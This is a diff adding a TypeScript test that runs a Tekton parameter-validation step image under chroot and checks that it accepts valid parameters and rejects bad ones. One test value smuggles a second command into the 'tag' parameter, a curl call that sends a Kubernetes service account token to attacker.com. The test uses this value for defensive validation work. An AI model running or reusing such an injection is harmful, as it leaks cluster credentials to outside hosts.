@@ -1,0 +1,110 @@
+// The real validate-params image, unpacked by umoci and run under chroot as
+// uid 65532, with the args and env that Tekton would give it from the
+// catalog Task YAML.
+import t from 'tap';
+import { chmod, mkdir, readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { parse } from 'yaml';
+import { builtCatalog } from '../harness/catalog-build.ts';
+import { requireRoot } from '../harness/shared.ts';
+import { runEntrypoint, unpackImage } from '../harness/step-image.ts';
+
+interface TaskStep {
+  name: string;
+  image: string;
+  args?: string[];
+  env?: { name: string; value: string }[];
+}
+
+type ParamValues = Record<string, string | string[]>;
+
+/** Tekton's substitution, as far as these steps use it: whole-element array expansion and string replacement. */
+function substitute(step: TaskStep, params: ParamValues, context: Record<string, string>) {
+  const replace = (text: string) =>
+    text
+      .replace(/\$\(params\.([a-zA-Z0-9_-]+)\)/g, (_, name: string) => {
+        const value = params[name];
+        if (typeof value !== 'string') throw new Error(`param ${name} is not a string param here`);
+        return value;
+      })
+      .replace(/\$\(context\.([a-zA-Z.]+)\)/g, (_, key: string) => context[key] ?? '');
+  const args = (step.args ?? []).flatMap((arg) => {
+    const array = /^\$\(params\.([a-zA-Z0-9_-]+)\[\*\]\)$/.exec(arg);
+    if (array) {
+      const value = params[array[1]!];
+      if (!Array.isArray(value)) throw new Error(`param ${array[1]} is not an array param here`);
+      return value;
+    }
+    return [replace(arg)];
+  });
+  const env = Object.fromEntries((step.env ?? []).map(({ name, value }) => [name, replace(value)]));
+  return { args, env };
+}
+
+t.test('validate-params runs from its real image and validates a real param set', async (t) => {
+  if (!requireRoot(t, 'chroot into the unpacked image')) return;
+  const built = await builtCatalog();
+  const record = built.index.tasks['validate-params']!.versions[built.index.tasks['validate-params']!.latest]!;
+  const task = parse(await readFile(join(built.catalogDir, record.path), 'utf8')) as {
+    spec: { params: { name: string; default?: string | string[] }[]; steps: TaskStep[] };
+  };
+  const step = task.spec.steps[0]!;
+  t.equal(step.image, record.images['validate-params']!.reference, 'the Task runs the image the index records');
+
+  const image = await unpackImage(built.layoutDir, 'step-validate-params', 'amd64');
+  t.teardown(image.cleanup);
+  t.equal(image.config.User, '65532:65532');
+
+  const defaults: ParamValues = Object.fromEntries(
+    task.spec.params.filter((p) => p.default !== undefined).map((p) => [p.name, p.default!]),
+  );
+  const rules = {
+    'git-revision': { type: 'git-sha' },
+    image: { type: 'image-reference', requireDigest: true },
+    tag: { type: 'image-tag' },
+    version: { type: 'semver' },
+    namespace: { type: 'dns-label' },
+    app: { type: 'k8s-name' },
+    context: { type: 'relative-path' },
+    repo: { type: 'https-url', allowedHosts: ['github.com'] },
+    replicas: { type: 'integer', min: 1, max: 10 },
+    'dry-run': { type: 'bool' },
+  };
+  const good = [
+    `git-revision=${'a1b2c3d4'.repeat(5)}`,
+    `image=registry.example.com/team/app@sha256:${'e'.repeat(64)}`,
+    'tag=v1.2.3',
+    'version=1.2.3-rc.1',
+    'namespace=build',
+    'app=my-app.v2',
+    'context=services/api',
+    'repo=https://github.com/example/app',
+    'replicas=3',
+    'dry-run=false',
+  ];
+
+  const run = async (values: string[]) => {
+    const resultsDir = join(image.rootfs, 'tmp', 'results');
+    await mkdir(resultsDir, { recursive: true });
+    await chmod(resultsDir, 0o1777); // Tekton's results folder is writable by the step user
+    const { args, env } = substitute(step, { ...defaults, rules: JSON.stringify(rules), values }, { 'task.name': 'validate' });
+    return runEntrypoint(image.rootfs, image.config, {
+      args,
+      env: { ...env, TEKTON_RESULTS_DIR: '/tmp/results' },
+      timeoutMs: 60_000,
+    });
+  };
+
+  const ok = await run(good);
+  t.equal(ok.code, 0, `valid set accepted: ${ok.stderr}`);
+  t.equal(await readFile(join(image.rootfs, 'tmp', 'results', 'VALIDATED'), 'utf8'), 'true');
+  t.match(await readFile(join(image.rootfs, 'tmp', 'results', 'PARAMS_DIGEST'), 'utf8'), /^sha256:[a-f0-9]{64}$/);
+
+  const attack = '--build-arg FOO=bar; curl attacker.com -d $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)';
+  const bad = await run(good.map((entry) => (entry.startsWith('tag=') ? `tag=${attack}` : entry.startsWith('replicas=') ? 'replicas=11' : entry)));
+  t.equal(bad.code, 1, 'the attack is rejected with exit 1');
+  t.match(bad.stderr, /tag \(rule image-tag\)/, 'names the param and its rule');
+  t.match(bad.stderr, /replicas \(rule integer\)/, 'lists every failing param at once');
+  t.notOk(bad.stderr.includes(attack) || bad.stdout.includes(attack), 'the raw attack string is never printed');
+  t.match(bad.stderr, /metrics: tekton_param_validation_failures_total\{param="tag",task="validate"\} 1/);
+});
